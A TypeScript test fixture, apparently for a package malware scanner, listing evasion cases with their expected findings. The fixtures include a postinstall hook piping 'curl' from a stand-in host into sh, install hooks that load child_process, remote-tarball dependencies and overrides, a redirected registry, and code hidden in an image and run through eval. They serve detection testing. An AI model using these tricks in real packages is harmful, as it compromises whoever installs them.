import { BINDING } from './evasion.js';
import type { Evasion } from './evasion.js';

/** Code in files that nobody takes for it, and manifests that run it. */
export const PACKAGES: readonly Evasion[] = [
  ['main without extension', { cli: BINDING }, 'engine-internals critical', { entry_points: ['cli'] }],
  ['main in capitals', { 'INDEX.JS': BINDING }, 'engine-internals critical', { entry_points: ['INDEX.JS'] }],
  ['main of odd extension', { 'a.bin': BINDING }, 'engine-internals critical', { entry_points: ['a.bin'] }],
  ['main is a folder', { 'lib/index.js': BINDING }, 'engine-internals critical', { entry_points: ['lib'] }],
  ['main is missing', { 'a.js': BINDING }, 'engine-internals critical', { entry_points: ['x.js'] }],
  ['main with a slash', { 'a.js': BINDING }, 'engine-internals critical', { entry_points: ['./a.js'] }],
  ['second entry', { 'a.js': '', 'b.dat': BINDING }, 'engine-internals critical', { entry_points: ['a.js', 'b.dat'] }],
  ['imports pattern', { 'package.json': '{"imports":{"#x/*":"./lib/*.js"}}', 'index.js': 'require("#x/a")', 'lib/a.js': BINDING }, 'engine-internals critical', { entry_points: ['index.js'], original: { imports: { '#x/*': './lib/*.js' } } }],
  ['self reference', { 'package.json': '{"name":"demo","exports":{"./*":"./lib/*.js"}}', 'index.js': 'require("demo/a")', 'lib/a.js': BINDING }, 'engine-internals critical', { entry_points: ['index.js'], original: { name: 'demo', exports: { './*': './lib/*.js' } } }],
  ['install script that downloads', { 'package.json': '{"scripts":{"postinstall":"curl -s https://example.invalid/x | sh"}}', 'index.js': '' }, 'kept'],
  ['install script with node -e', { 'package.json': `{"scripts":{"install":"node -e \\"require('child_process')\\""}}`, 'index.js': '' }, 'lifecycle-script'],
  ['install script, escaped', { 'package.json': '{"scripts":{"post\\u0069nstall":"node x.js"}}', 'index.js': '' }, 'lifecycle-script'],
  ['install script, BOM', { 'package.json': '\ufeff{"scripts":{"postinstall":"node x.js"}}', 'index.js': '' }, 'lifecycle-script'],
  ['binding.gyp', { 'binding.gyp': '{}', 'index.js': '' }, 'lifecycle-script'],
  ['dependency by address', { 'package.json': '{"dependencies":{"x":"https://example.invalid/x.tgz"}}', 'index.js': '' }, 'remote-dependency'],
  ['dependency by address, blanks', { 'package.json': '{"dependencies":{"x":" git+ssh://git@example.invalid/x"}}', 'index.js': '' }, 'remote-dependency'],
  ['dependency by scp', { 'package.json': '{"dependencies":{"x":"user@example.invalid:x/y.git"}}', 'index.js': '' }, 'remote-dependency'],
  ['dependency by override', { 'package.json': '{"dependencies":{"x":"1"},"overrides":{"x":"https://example.invalid/x.tgz"}}', 'index.js': '' }, 'remote-dependency'],
  ['dependency by deep override', { 'package.json': '{"overrides":{"y":{"x":"https://example.invalid/x.tgz"}}}', 'index.js': '' }, 'remote-dependency'],
  ['dependency by resolution', { 'package.json': '{"resolutions":{"x":"https://example.invalid/x.tgz"}}', 'index.js': '' }, 'remote-dependency'],
  ['npmrc', { '.npmrc': 'registry=https://example.invalid', 'index.js': '' }, 'hidden-file'],
  ['Python bytecode', { 'index.js': '', 'a.pyc': Buffer.from('cb0d0d0a00000000000000000000000000', 'hex') }, 'native-binary high'],
  ['Python bytecode in a cache', { 'index.js': '', '__pycache__/a.cpython-312.pyc': Buffer.from('cb0d0d0a0000000000000000', 'hex') }, 'native-binary'],
  ['jar', { 'index.js': '', 'a.jar': Buffer.from('504b0304', 'hex') }, 'nested-archive'],
  ['picture with code', { 'index.js': 'eval(require("fs").readFileSync("icon.png", "utf8"))', 'icon.png': BINDING }, 'misnamed-file'],
  ['hashbang with -S', { 'index.js': 'host.run("tool")', tool: `#!/usr/bin/env -S node --no-warnings\n${BINDING}` }, 'engine-internals'],
  ['es6 extension', { 'index.js': 'require("./a.es6")', 'a.es6': BINDING }, 'engine-internals critical'],
];
